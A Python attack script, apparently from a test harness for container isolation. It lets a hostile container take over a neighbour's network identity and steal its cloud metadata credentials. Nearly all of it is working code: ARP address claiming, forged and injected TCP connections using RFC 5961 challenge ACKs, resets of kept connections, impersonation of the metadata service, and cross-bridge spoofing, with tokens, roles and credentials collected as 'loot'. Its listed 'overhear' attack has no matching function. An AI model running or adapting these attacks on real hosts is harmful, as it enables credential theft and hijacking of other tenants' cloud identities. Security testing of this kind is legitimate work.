"""Attacks of a hostile container on its neighbours' identity. They need CAP_NET_RAW only (`address_added` needs CAP_NET_ADMIN).

Usage: attacker.py ORDER_JSON. Prints its findings as JSON. Stops after `seconds`, or with the first credentials.
The order: {"attack": a function below, "seconds", "victim", "host": the host's address on this bridge, ...parameters}.
"""
import ipaddress
import json
import random
import socket
import subprocess
import sys
import time

from frames import ACK, IPV4, IPV6, RST, SYN, parse_tcp, tcp
from loot import Loot, whole_answer
from raw_tcp import Connection
from transit import Transit, clean
from wire import Wire

# A MAC of no interface: the attacker's own kernel would react to answers that arrive at its own MAC.
GHOST = "02:66:00:00:00:66"
METADATA = ("169.254.169.254", 80)
METADATA6 = ("fd00:ec2::254", 80)


def opened(interface, tags, arp_hardware, seconds=10):
    """The wire of an interface, or of "any" in addition to eth0, once there is one that is up."""
    end = time.monotonic() + seconds
    while interface == "any":
        names = [name for _, name in socket.if_nameindex() if name.startswith("eth") and name != "eth0"]
        try:
            with open("/sys/class/net/%s/operstate" % (names + ["none"])[0]) as state:
                if state.read().strip() == "up":
                    return Wire(names[0], tags, arp_hardware)
        except OSError:
            pass  # It has no address yet.
        if time.monotonic() >= end:
            raise OSError("no other interface than eth0 within %d s" % seconds)
        time.sleep(0.01)
    return Wire(interface, tags, arp_hardware)


class Attack(Transit):
    def __init__(self, order):
        self.order = order
        self.loot = Loot()
        self.end = time.monotonic() + order["seconds"]
        self.wire = opened(order.get("interface", "eth0"), order.get("tags", ()), order.get("arpHardware", 1))
        self.victim, self.host = order["victim"], order["host"]
        self.host_mac = self.wire.resolve(self.host)
        self.victim_mac = order.get("victimMac") or (self.wire.resolve(self.victim) if order.get("reachesVictim", True) else None)
        self.mac = {"ghost": GHOST, "own": self.wire.mac, "victim": self.victim_mac}[order.get("mac", "ghost")]
        self.service = METADATA6 if ":" in self.victim else METADATA
        self.ask_at = tuple(order.get("ask", self.service))
        self.api = order.get("api", "imds")

    def over(self):
        return self.loot.done() or time.monotonic() >= self.end

    def be_victim(self):
        """Makes the host send the victim's packets to us."""
        self.wire.claim(self.victim, self.mac, self.host, self.host_mac)
        self.wire.pump(0.05)

    def send(self, target_mac, packet):
        self.wire.send(target_mac, self.mac, IPV6 if ":" in self.victim else IPV4, packet)

    def connect(self, source_port, target, seconds=0.6):
        """Connects to the host from the victim's address."""
        return self.between((self.victim, source_port), target, self.host_mac, seconds)

    def between(self, source, target, target_mac, seconds=0.6):
        one = Connection(self.wire, source, target, self.mac, target_mac)
        one.open(seconds)
        return one

    def exchange_on(self, connection):
        def exchange(data):
            start = len(connection.received)
            answer = lambda: whole_answer(connection.received[start:])  # noqa: E731
            connection.exchange(data, 3.0, lambda: answer() is not None)
            return answer()

        return exchange

    def ask(self, connection):
        if connection.state != "open":
            self.loot.note("no connection to %s port %d: %s" % (*connection.target, connection.state))
            return
        self.loot.opened += 1
        self.loot.ask(self.api, self.exchange_on(connection))

    def round(self, source_port, target=None):
        self.loot.rounds += 1
        connection = self.connect(source_port, target or self.ask_at)
        self.ask(connection)
        connection.abort()
        return connection

    # The attacks.

    def theft(self):
        """Takes over the victim's address on its own bridge, and requests credentials."""
        self.be_victim()
        while not self.over():
            self.round(random.randrange(20000, 60000))

    def forged_accept(self):
        """Connects to a listening port of the victim from the remote end that the proof expects, and sends requests as victim:port."""
        port, forged = self.order["victimPort"], tuple(self.order["as"])
        # The victim answers by way of its gateway, or directly if the address is on its network.
        for address in {self.host, forged[0]}:
            self.wire.claim(address, self.mac, self.victim, self.victim_mac)
        self.be_victim()
        while not self.over():
            accepted = self.between(forged, (self.victim, port), self.victim_mac)
            if accepted.state == "open":
                self.round(port)
            else:
                self.loot.rounds += 1
                self.loot.note("the victim did not accept: %s" % accepted.state)
            accepted.abort()
            self.wire.pump(0.02)

    def port_reuse(self):
        """Sends requests from ports on which the victim may have a connection to the metadata service."""
        low, high = self.order["ports"]
        self.be_victim()
        if self.order.get("endKept", False):
            self.end_kept(low)
        while not self.over():
            for port in range(low, high + 1):
                if self.over():
                    break
                self.round(port)

    def challenge(self, port, tries=5):
        """A probe with the sequence numbers of the victim's kept connection: the host answers a second SYN with them (RFC 5961). Or None."""
        for _ in range(tries):
            probe = self.connect(port, self.service)
            if probe.challenge is not None:
                return probe
            probe.abort()
            if self.over():
                break
            self.wire.pump(0.6 if tries > 1 else 0)
        if tries > 1:
            self.loot.note("the host has no connection from port %d" % port)
        return None

    def end_other(self, probe):
        """Resets the connection of the host that has the addresses and ports of `probe`."""
        packet = tcp(*probe.source, *probe.target, probe.challenge[1], 0, RST)
        self.send(self.host_mac, packet)
        probe.abort()

    def end_kept(self, port):
        """Resets the host's side of the kept connection. The victim is not told and keeps its side established."""
        probe = self.challenge(port)
        if probe is not None:
            self.end_other(probe)
            self.loot.note("the host's side of the kept connection was reset")
            # conntrack remembers a reset connection for ten seconds, and its ports are in use until then.
            self.wire.pump(self.order.get("settle", 0))

    def kept_injected(self):
        """Injects requests into the victim's kept connection, which has passed the proof."""
        low, high = self.order["ports"]
        self.be_victim()
        while not self.over():
            for port in range(low, high + 1):
                self.loot.rounds += 1
                probe = self.challenge(port, 5 if low == high else 1)
                if probe is not None:
                    probe.adopt()
                    self.ask(probe)
                    self.wire.connections.clear()
                if self.over():
                    return

    def impersonation(self):
        """Plays the metadata service to the victim, so that the victim itself opens the connection that the proof expects."""
        seen = []

        def note(kind, payload, source_mac):
            segment = parse_tcp(kind, payload)
            if segment is not None and (segment.source, segment.target, segment.target_port) == (self.victim, *self.service):
                seen.append(segment)

        self.wire.claim(self.host, self.mac, self.victim, self.victim_mac)
        self.be_victim()
        self.wire.sniffers.append(note)
        while not self.over():
            self.wire.pump(0.2, lambda: bool(seen))
            for opening in [segment for segment in seen if segment.flags & (SYN | ACK) == SYN]:
                port, ours = opening.source_port, random.getrandbits(31)
                answer = tcp(*self.service, self.victim, port, ours, opening.sequence + 1, SYN | ACK)
                self.send(self.victim_mac, answer)
                established = lambda: any(one.flags & ACK and one.acknowledged == ours + 1 for one in seen)  # noqa: E731
                self.wire.pump(0.3, established)
                if established() and not self.over():
                    connection = self.round(port)
                    if connection.challenge is not None:
                        # The victim's previous connection had the same port, and the host does not know that it ended.
                        self.end_other(connection)
                        self.round(port)
            seen.clear()

    def across(self):
        """Sends as the victim through another bridge that it is attached to, and catches the answers on the victim's bridge."""
        other = Wire(self.order["otherInterface"])
        other_mac = other.resolve(self.order["otherHost"])
        self.be_victim()
        while not self.over():
            self.loot.rounds += 1
            source = (self.victim, random.randrange(20000, 60000))
            connection = Connection(other, source, self.ask_at, other.mac, other_mac, receiver=self.wire)
            connection.open(0.6)
            self.ask(connection)
            connection.abort()

    def across_blind(self):
        """Sends from a bridge without the victim. The answers go to the victim, so it guesses sequence numbers, and keeps what it hears."""
        heard = []
        self.wire.sniffers.append(lambda kind, payload, source_mac: heard.append(payload))
        while not self.over():
            self.round(random.randrange(20000, 60000))
            guess = Connection(self.wire, (self.victim, random.randrange(20000, 60000)), self.ask_at, self.mac, self.host_mac)
            guess.challenge = (random.getrandbits(32), guess.sequence)
            guess.adopt()
            self.loot.ask(self.api, lambda data: guess.exchange(data, 0.1, lambda: guess.received != b""))
            guess.abort()
        self.loot.text.append(b"".join(heard).decode("latin1"))

    def address_added(self):
        """Adds the victim's address to its own interface, and sends requests with ordinary sockets."""
        length, options = ("/64", ["nodad"]) if ":" in self.victim else ("/16", [])
        # The image's own `ip` (busybox), which comes first on the path, lacks options.
        change = lambda what, *more: subprocess.run(  # noqa: E731
            ["/usr/bin/ip", "address", what, self.victim + length, "dev", "eth0", *more], check=True
        )
        change("add", *options)
        self.mac = self.wire.mac
        try:
            while not self.over():
                self.loot.rounds += 1
                self.be_victim()
                self._ask_by_kernel()
        finally:
            change("del")

    def _ask_by_kernel(self):
        try:
            with socket.create_connection(self.ask_at, 1.0, (self.victim, 0)) as connection:
                self.loot.opened += 1

                def exchange(data):
                    connection.sendall(data)
                    received = b""
                    while whole_answer(received) is None:
                        part = connection.recv(65536)
                        if part == b"":
                            return None
                        received += part
                    return whole_answer(received)

                self.loot.ask(self.api, exchange)
        except OSError as error:
            self.loot.note("request from %s: %s" % (self.victim, error))


ATTACKS = ("theft", "forged_accept", "port_reuse", "kept_injected", "impersonation", "across", "across_blind", "address_added", "overhear")


def capabilities():
    with open("/proc/self/status") as status:
        return next(line.split()[1] for line in status if line.startswith("CapEff:"))


def main(order):
    if order["attack"] == "capabilities":
        return {"capabilities": capabilities()}
    if order["attack"] not in ATTACKS:
        raise SystemExit("attacker.py: unknown attack %r" % order["attack"])
    for key in ("victim", "host"):
        order[key] = str(ipaddress.ip_address(order[key]))
    clean()
    attack = Attack(order)
    getattr(attack, order["attack"])()
    loot = attack.loot
    return {
        "capabilities": capabilities(),
        "rounds": loot.rounds,
        "opened": loot.opened,
        "answers": loot.answers,
        "tokens": loot.tokens,
        "roles": loot.roles,
        "credentials": loot.credentials,
        "bytes": loot.bytes,
        "began": attack.began,
        "ended": attack.ended,
        "notes": loot.notes,
        "text": "\n".join(loot.text),
    }


print(json.dumps(main(json.loads(sys.argv[1]))))
